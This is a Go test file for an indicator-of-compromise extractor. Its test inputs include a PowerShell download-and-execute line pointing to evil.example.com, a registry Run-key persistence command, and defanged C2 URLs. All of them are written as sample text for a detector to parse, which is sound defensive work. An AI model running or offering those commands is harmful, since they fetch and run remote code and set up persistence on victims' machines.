package network

import (
	"slices"
	"strings"
	"testing"

	analysisv1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/analysis/v1"
)

type iocWant struct {
	typ      analysisv1.IOCType
	value    string
	defanged bool
	reserved bool
}

func findIOC(iocs []IOC, typ analysisv1.IOCType, value string) (IOC, bool) {
	for _, i := range iocs {
		if i.Type == typ && i.Value == value {
			return i, true
		}
	}
	return IOC{}, false
}

func TestExtract(t *testing.T) {
	const (
		url4    = analysisv1.IOCType_IOC_TYPE_URL
		dom     = analysisv1.IOCType_IOC_TYPE_DOMAIN
		ip4     = analysisv1.IOCType_IOC_TYPE_IPV4
		ip6     = analysisv1.IOCType_IOC_TYPE_IPV6
		email   = analysisv1.IOCType_IOC_TYPE_EMAIL
		btc     = analysisv1.IOCType_IOC_TYPE_BTC_ADDRESS
		eth     = analysisv1.IOCType_IOC_TYPE_ETH_ADDRESS
		xmr     = analysisv1.IOCType_IOC_TYPE_XMR_ADDRESS
		path    = analysisv1.IOCType_IOC_TYPE_FILE_PATH
		reg     = analysisv1.IOCType_IOC_TYPE_REGISTRY_KEY
		ua      = analysisv1.IOCType_IOC_TYPE_USER_AGENT
		sha256t = analysisv1.IOCType_IOC_TYPE_SHA256
		md5t    = analysisv1.IOCType_IOC_TYPE_MD5
	)
	tests := []struct {
		name string
		in   string
		want []iocWant
		none []iocWant
	}{
		{"plain url", `IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')`,
			[]iocWant{{url4, "http://evil.example.com/a.ps1", false, false}, {dom, "evil.example.com", false, false}}, nil},
		{"defanged url", "payload at hxxps://bad[.]ru/x?y=1 today",
			[]iocWant{{url4, "https://bad.ru/x?y=1", true, false}, {dom, "bad.ru", true, false}}, nil},
		{"defanged domain and email", "c2 is update(.)microsoft-cdn[.]com, mail admin[at]evil[.]org",
			[]iocWant{{dom, "update.microsoft-cdn.com", true, false}, {email, "admin@evil.org", true, false}}, nil},
		{"defanged colon", "http[:]//1.2.3.4:8080/gate.php",
			[]iocWant{{url4, "http://1.2.3.4:8080/gate.php", true, false}, {ip4, "1.2.3.4", true, false}}, nil},
		{"file names are not domains", "run setup.exe then open readme.md and script.js, load kernel32.dll",
			nil, []iocWant{{dom, "setup.exe", false, false}, {dom, "readme.md", false, false}, {dom, "script.js", false, false}, {dom, "kernel32.dll", false, false}}},
		{"private ip flagged", "connect 192.168.1.10 and 8.8.8.8 and 203.0.113.5",
			[]iocWant{{ip4, "192.168.1.10", false, true}, {ip4, "8.8.8.8", false, false}, {ip4, "203.0.113.5", false, true}}, nil},
		{"ipv6", "beacon to 2606:4700:4700::1111 and 2001:db8::1",
			[]iocWant{{ip6, "2606:4700:4700::1111", false, false}, {ip6, "2001:db8::1", false, true}}, nil},
		{"bad ip", "version 1.2.3.999 and 300.1.1.1", nil, []iocWant{{ip4, "300.1.1.1", false, false}}},
		{"email", "send to John.Doe+x@Example.co.uk now", []iocWant{{email, "John.Doe+x@example.co.uk", false, false}}, nil},
		{"hashes", "md5 d41d8cd98f00b204e9800998ecf8427e sha256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
			[]iocWant{{md5t, "d41d8cd98f00b204e9800998ecf8427e", false, false}, {sha256t, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", false, false}}, nil},
		{"btc", "pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy or bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
			[]iocWant{{btc, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", false, false}, {btc, "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", false, false},
				{btc, "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", false, false}}, nil},
		{"btc bad checksum", "pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb or bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdz", nil,
			[]iocWant{{btc, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", false, false}, {btc, "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdz", false, false}}},
		{"eth eip55", "to 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed and 0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359",
			[]iocWant{{eth, "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", false, false}, {eth, "0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359", false, false}}, nil},
		{"eth bad checksum", "to 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", nil, []iocWant{{eth, "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", false, false}}},
		{"xmr", "donate 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
			[]iocWant{{xmr, "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", false, false}}, nil},
		{"xmr bad", "donate 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3B", nil,
			[]iocWant{{xmr, "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3B", false, false}}},
		{"paths and keys", `copy C:\Users\Public\evil.exe and %APPDATA%\Microsoft\run.vbs; reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x`,
			[]iocWant{{path, `C:\Users\Public\evil.exe`, false, false}, {path, `%APPDATA%\Microsoft\run.vbs`, false, false},
				{reg, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, false, false}}, nil},
		{"user agent", `$wc.Headers.Add("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")`,
			[]iocWant{{ua, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", false, false}}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Extract([]byte(tc.in), DefaultExtractLimits())
			for _, w := range tc.want {
				g, ok := findIOC(got, w.typ, w.value)
				if !ok {
					t.Errorf("missing %v %q; got %+v", w.typ, w.value, got)
					continue
				}
				if g.Defanged != w.defanged || g.Reserved != w.reserved {
					t.Errorf("%q: defanged=%v reserved=%v, want %v %v", w.value, g.Defanged, g.Reserved, w.defanged, w.reserved)
				}
				if g.Offset < 0 || int(g.Offset) >= len(tc.in) {
					t.Errorf("%q: offset %d out of range", w.value, g.Offset)
				}
			}
			for _, w := range tc.none {
				if _, ok := findIOC(got, w.typ, w.value); ok {
					t.Errorf("unexpected %v %q", w.typ, w.value)
				}
			}
		})
	}
}

func TestExtractOffsetsAndDedup(t *testing.T) {
	in := "xx http://a.example.org/ yy http://a.example.org/ zz"
	got := Extract([]byte(in), DefaultExtractLimits())
	n := 0
	for _, i := range got {
		if i.Type == analysisv1.IOCType_IOC_TYPE_URL {
			n++
			if i.Offset != 3 {
				t.Errorf("offset = %d, want 3", i.Offset)
			}
		}
	}
	if n != 1 {
		t.Errorf("urls = %d, want 1 (deduplicated)", n)
	}
}

func TestExtractLimits(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 20000; i++ {
		sb.WriteString("host")
		sb.WriteString(strings.Repeat("a", i%7))
		sb.WriteString(string(rune('a' + i%26)))
		sb.WriteString(string(rune('a' + (i/26)%26)))
		sb.WriteString(string(rune('a' + (i/676)%26)))
		sb.WriteString(".com ")
	}
	got := Extract([]byte(sb.String()), ExtractLimits{MaxIOCs: 100, MaxTokenLen: 4096})
	if len(got) != 100 {
		t.Errorf("got %d iocs, want the cap of 100", len(got))
	}
	big := []byte(strings.Repeat("QUFB", 1<<20))
	if got := Extract(big, DefaultExtractLimits()); len(got) != 0 {
		t.Errorf("a 4 MiB base64 run produced %d iocs", len(got))
	}
}

func TestKeccak(t *testing.T) {
	h := keccak256(nil)
	const want = "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
	if got := hexString(h[:]); got != want {
		t.Errorf("keccak256('') = %s, want %s", got, want)
	}
}

func hexString(b []byte) string {
	const digits = "0123456789abcdef"
	out := make([]byte, 0, 2*len(b))
	for _, c := range b {
		out = append(out, digits[c>>4], digits[c&15])
	}
	return string(out)
}

var fuzzSeeds = []string{"hxxp://a[.]b/c", "1.2.3.4", "a@b.com", `C:\x\y`, "HKLM\\Software\\x", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
	"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "Mozilla/5.0 (x)", "[::1]", "http://[2001:db8::1]:80/", "http://@:/",
	"\x00runtime.gopark time.Time.Compare go.shape.int www.evil.name Evil.COM(x) self.stream.example.com/x 8.8.8.8/24 a_b.example.org",
	"runtime.(*mheap) (0123456789abcdef0123456789abcde0) .0123456789abcdef0123456789abcde0 [evil.com] x(.)com (a@b.com) [1.2.3.4]:80",
	// markers in runs of text too short to hold an indicator, a few bytes from longer runs
	"\x01ws://\x01evil.example.com\x01a://b\x01http://x.example.org/z\x02://\x02curl/\x02Wget/1.2.3 (linux)\x00ftp://\x00"}

// FuzzExtract checks every indicator's bounds and holds Extract to the reference extraction.
func FuzzExtract(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		got := Extract(b, DefaultExtractLimits())
		for _, i := range got {
			if i.Value == "" || i.Offset < 0 || int(i.Offset) > len(b) {
				t.Fatalf("bad ioc %+v", i)
			}
		}
		if want := referenceExtract(b, DefaultExtractLimits()); !slices.Equal(got, want) {
			t.Fatalf("got  %+v\nwant %+v (reference)", got, want)
		}
	})
}
